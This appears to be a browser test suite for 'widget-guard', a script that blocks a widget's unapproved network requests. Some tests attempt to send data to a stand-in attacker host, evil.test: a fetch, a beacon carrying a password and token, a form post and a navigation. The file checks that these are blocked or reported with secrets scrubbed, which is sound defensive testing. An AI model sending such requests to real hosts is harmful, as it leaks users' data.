// Start-up and configuration: requests made before the engine is ready, failing closed (no
// 'wasm-unsafe-eval', a bad config), report mode, and the navigation sinks.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { OPTIONS, PAGE_CSP, served, startBrowser } from './harness.mjs';

let browser;
before(async () => {
  browser = await startBrowser();
});
after(() => browser.close());

test('requests made before the engine is ready: fetch is held then decided, synchronous sinks are refused', async () => {
  const page = await browser.open({
    options: OPTIONS,
    csp: PAGE_CSP,
    afterInstall: `window.early = {
      allowed: attempt(() => fetch('https://api.test/v1/early').then((r) => r.json())),
      blocked: attempt(() => fetch('https://evil.test/early')),
      socket: attempt(() => new WebSocket('wss://live.test/early')),
    };`,
  });
  const result = await page.evaluate(async () => ({
    allowed: await early.allowed, blocked: await early.blocked, socket: await early.socket,
  }));
  assert.equal(result.allowed.value.path, '/v1/early');
  assert.equal(result.blocked.error, 'TypeError');
  assert.equal(result.socket.error, 'SecurityError');
  assert.match(result.socket.message, /the guard is still starting/);
  await page.close();
});

test("without 'wasm-unsafe-eval' the guard fails closed and says how to fix the policy", async () => {
  const page = await browser.open({ options: OPTIONS, csp: "script-src 'self' 'unsafe-inline'" });
  const result = await page.evaluate(async () => ({
    install: await attempt(() => guardReady),
    fetch: await attempt(() => fetch('https://api.test/v1/x')),
  }));
  assert.match(result.install.message, /failed closed/);
  assert.match(result.fetch.message, /'wasm-unsafe-eval'/);
  assert.ok(page.consoleLines.some((line) => line.startsWith('error: widget-guard: failed closed') && line.includes("Add 'wasm-unsafe-eval' to script-src")), page.consoleLines.join('\n'));
  assert.ok(!served.includes('api.test/v1/x'));
  await page.close();
});

test('under the strict widget CSP (no connect-src for the guard itself), widget-guard.inline.js starts and widget-guard.js fails closed saying why', async () => {
  const csp = "script-src 'self' 'unsafe-inline' 'wasm-unsafe-eval'; connect-src https://api.test";
  const inline = await browser.open({ options: OPTIONS, csp, script: 'widget-guard.inline.js' });
  assert.equal((await inline.evaluate(() => blockedAndAllowed())).allowed.value.host, 'api.test');
  await inline.close();
  const fetched = await browser.open({ options: OPTIONS, csp });
  const result = await fetched.evaluate(() => attempt(() => guardReady));
  assert.match(result.message, /allow its origin in connect-src, or pass install\(\{ wasm \}\)|widget-guard\.inline\.js/);
  await fetched.close();
});

test('an invalid config fails closed and names the field and what to write', async () => {
  const cases = [
    [{ allow: [{ origin: 'api.test' }] }, /allow\[0\]\.origin: got "api\.test"; expected an origin with a scheme/],
    [{ allow: [{ origin: 'https://api.test', methodz: ['GET'] }] }, /unknown field allow\[0\]\.methodz/],
    [{ csp: 'connect-src https://api.test', alow: [] }, /unknown option alow/],
    [{ connectDomains: ['https://api.test', "'unsafe-inline'"] }, /connectDomains\[1\]/],
    [{}, /nothing to enforce/],
    [{ csp: 'connect-src https://bücher.test' }, /Punycode/],
    // The sanitizer's options are checked at start-up, not when the first prop is read.
    [{ csp: 'connect-src https://api.test', sanitizeProps: { mdoe: 'mask' } }, /sanitizeProps: .*unknown option 'mdoe'/],
    [{ csp: 'connect-src https://api.test', sanitizeProps: { keepPaths: ['user'] } }, /keepPaths entry 'user' is not a JSON pointer/],
  ];
  for (const [options, expected] of cases) {
    const page = await browser.open({ options, csp: PAGE_CSP });
    const result = await page.evaluate(async () => ({
      install: await attempt(() => guardReady),
      fetch: await attempt(() => fetch('https://api.test/v1/x')),
    }));
    assert.match(result.install.message, expected, JSON.stringify(options));
    assert.equal(result.fetch.error, 'TypeError', 'every request is denied');
    await page.close();
  }
});

test('install() with no options, or options that cannot be copied, installs the hooks and fails closed', async () => {
  for (const args of ['', '{ connectDomains: ["https://api.test"], sanitizeProps: { keepPaths: [() => "/"] } }']) {
    const page = await browser.open({
      install: false,
      csp: PAGE_CSP,
      afterInstall: `window.outcome = WidgetGuard.install(${args}).then(() => 'resolved', (error) => error.message)
        .then(async (install) => ({ install, fetch: await fetch('https://api.test/v1/no-options').then(() => 'sent', (error) => error.name) }));`,
    });
    const outcome = await page.evaluate(() => outcome);
    assert.match(outcome.install, args ? /could not be cloned/ : /nothing to enforce/);
    assert.equal(outcome.fetch, 'TypeError', 'every request is denied');
    await page.close();
  }
  assert.ok(!served.includes('api.test/v1/no-options'));
});

test('connectDomains alone become connect-src', async () => {
  const page = await browser.open({ options: { connectDomains: ['https://api.test'] }, csp: PAGE_CSP });
  const result = await page.evaluate(() => blockedAndAllowed());
  assert.equal(result.allowed.value.host, 'api.test');
  assert.equal(result.blocked.error, 'TypeError');
  await page.close();
});

test('report mode lets the request through and reports it', async () => {
  const page = await browser.open({ options: { ...OPTIONS, mode: 'report' }, csp: PAGE_CSP });
  const result = await page.evaluate(async () => ({ fetch: await attempt(() => fetch('https://evil.test/report-me').then((r) => r.json())), violations }));
  assert.equal(result.fetch.value.host, 'evil.test');
  assert.equal(result.violations[0].disposition, 'report');
  assert.match(result.violations[0].reason, /report mode: not blocked/);
  assert.ok(page.consoleLines.some((line) => line.startsWith('warning: widget-guard: fetch blocked: https://evil.test/report-me')));
  await page.close();
});

test('report mode follows redirects: nothing is blocked', async () => {
  const page = await browser.open({ options: { ...OPTIONS, mode: 'report' }, csp: PAGE_CSP });
  const result = await page.evaluate(() => attempt(() => fetch('https://api.test/v1/redirect?to=https://api.test/v1/after-report-redirect').then((r) => r.json())));
  assert.equal(result.value?.path, '/v1/after-report-redirect', JSON.stringify(result));
  await page.close();
});

test('reports carry no user:password@ and no data: content, from the engine or from the loader (before it is ready, or failed closed)', async () => {
  const probe = `window.reported = async () => {
    try { await fetch('data:text/plain,SECRET-DATA'); } catch (_) {}
    try { navigator.sendBeacon('https://svc:S3cret@evil.test/x?token=abc'); } catch (_) {}
    return { violations: violations.map((v) => v.blockedURL + ' ' + v.reason), audit: auditEvents.map((e) => e.url + ' ' + e.reason) };
  };`;
  const ready = await browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: probe });
  const failedClosed = await browser.open({ options: OPTIONS, csp: "script-src 'self' 'unsafe-inline'", afterInstall: probe });
  for (const page of [ready, failedClosed]) {
    const result = await page.evaluate(async () => { await guardReady.catch(() => {}); return reported(); });
    const text = JSON.stringify(result);
    assert.ok(result.violations.length >= 2, text);
    assert.ok(!/S3cret|svc:|SECRET-DATA|token/.test(text), text);
    assert.ok(result.violations.some((line) => line.startsWith('https://evil.test/x ')), text);
    await page.close();
  }
});

test('a no-cors fetch under an allow rule that does not follow redirects is refused and reported, saying what to change', async () => {
  const page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
  const result = await page.evaluate(async () => ({
    fetch: await attempt(() => fetch('https://api.test/v1/no-cors', { mode: 'no-cors' })),
    followed: await attempt(() => fetch('https://cdn.test/no-cors', { mode: 'no-cors' }).then((r) => r.type)),
    violations: violations.map((v) => v.reason),
  }));
  assert.match(result.fetch.message, /a no-cors request follows redirects, which its allow rule refuses; add followRedirects or drop no-cors/);
  assert.equal(result.followed.value, 'opaque', 'a rule that follows redirects takes no-cors requests');
  assert.equal(result.violations.length, 1);
  await page.close();
});

test('navigation sinks: forms, <a ping>, location, window.open follow the redirects list', async () => {
  const page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
  const result = await page.evaluate(async () => {
    await guardReady;
    document.body.innerHTML = `
      <form id="evil" action="https://evil.test/collect" method="post"><input name="q" value="1"></form>
      <a id="ping" href="#here" ping="https://evil.test/ping https://api.test/v1/ping">link</a>`;
    violations.length = 0;
    const form = document.getElementById('evil');
    form.requestSubmit();
    form.submit();
    document.getElementById('ping').click();
    const pingAfterClick = document.getElementById('ping').getAttribute('ping');
    location.href = 'https://evil.test/navigate';
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      sinks: violations.map((v) => `${v.sink} ${v.blockedURL}`),
      pingAfterClick,
      stillHere: location.href,
      openAllowed: window.open('https://docs.test/help') !== null,
    };
  });
  assert.deepEqual(result.sinks, [
    'form-submit https://evil.test/collect',
    'form-submit https://evil.test/collect',
    'ping https://evil.test/ping',
    'navigation https://evil.test/navigate',
  ]);
  assert.equal(result.pingAfterClick, 'https://api.test/v1/ping', 'the blocked ping URL is dropped, the allowed one kept');
  assert.match(result.stillHere, /^https:\/\/widget\.test\/widget/);
  assert.equal(result.openAllowed, true);
  await page.close();
});
